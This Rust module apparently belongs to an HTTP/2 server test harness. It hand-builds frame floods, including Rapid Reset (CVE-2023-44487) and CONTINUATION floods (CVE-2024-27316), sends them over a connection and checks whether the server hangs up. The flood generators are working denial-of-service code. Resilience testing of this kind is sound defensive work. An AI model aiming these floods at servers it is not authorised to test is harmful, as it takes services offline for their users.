//! Floods of HTTP/2 frames, by hand: what a client that keeps to the rules can't send. Each is a beginning and what is
//! then said again and again.

use std::time::Duration;

use tokio::{
    io::{AsyncRead, AsyncReadExt as _, AsyncWrite, AsyncWriteExt as _},
    time::timeout,
};

use crate::stall::{Calls, DATA, END_HEADERS, HEADERS, PREFACE, SETTINGS, frame};

const RST_STREAM: u8 = 3;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

/// A server that takes nothing for so long has had enough.
const TAKES: Duration = Duration::from_secs(5);

/// What is said without end.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Streams that are opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// Headers that go on in frames without end (CVE-2024-27316).
    Continuation,
    /// Pings, each to be answered.
    Ping,
    /// Settings, each to be acknowledged.
    Settings,
    /// Data frames without data.
    EmptyData,
    /// A window that is opened beyond all bounds.
    Window,
}

/// All, in their order.
pub const FLOODS: [Flood; 6] =
    [Flood::RapidReset, Flood::Continuation, Flood::Ping, Flood::Settings, Flood::EmptyData, Flood::Window];

impl Flood {
    /// Whether a server has to hang up on it. Pings, settings and empty frames are answered or dropped one by one.
    pub fn is_hung_up_on(self) -> bool {
        matches!(self, Self::RapidReset | Self::Continuation | Self::Window)
    }

    fn beginning(self, calls: &Calls) -> Vec<u8> {
        let mut said = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
        match self {
            Self::Continuation => said.extend(frame(HEADERS, 0, 1, &calls.block(calls.body))),
            Self::EmptyData => said.extend(frame(HEADERS, END_HEADERS, 1, &calls.block(calls.body))),
            _ => {}
        }
        said
    }

    /// The `number`th thing that it says.
    fn again(self, number: u32, calls: &Calls) -> Vec<u8> {
        let stream = number * 2 + 1;
        match self {
            Self::RapidReset => [
                frame(HEADERS, END_HEADERS, stream, &calls.block(calls.body)),
                frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
            ]
            .concat(),
            // A literal with its name, never a code: x-a: b.
            Self::Continuation => frame(CONTINUATION, 0, 1, b"\x00\x03x-a\x01b"),
            Self::Ping => frame(PING, 0, 0, &u64::from(number).to_be_bytes()),
            Self::Settings => frame(SETTINGS, 0, 0, &[]),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::Window => frame(WINDOW_UPDATE, 0, 0, &0x7fff_ffff_u32.to_be_bytes()),
        }
    }

    /// Says it `times`, taking whatever is answered; true if it was hung up on before the end.
    pub async fn pour<S>(self, connection: S, times: u32, calls: &Calls) -> bool
    where
        S: AsyncRead + AsyncWrite + Send + Unpin + 'static,
    {
        let (mut from, mut to) = tokio::io::split(connection);
        let answers = tokio::spawn(async move {
            let mut taken = vec![0; 64 << 10];
            while !matches!(from.read(&mut taken).await, Ok(0) | Err(_)) {}
        });
        let mut said = self.beginning(calls);
        for number in 0..times {
            said.extend(self.again(number, calls));
            let is_last = number + 1 == times;
            if said.len() > 16 << 10 || is_last {
                let written = async {
                    to.write_all(&said).await?;
                    to.flush().await
                };
                if !matches!(timeout(TAKES, written).await, Ok(Ok(()))) {
                    return true;
                }
                said.clear();
            }
        }
        // Whoever is about to hang up does so now.
        self.is_hung_up_on() && timeout(TAKES, answers).await.is_ok()
    }
}
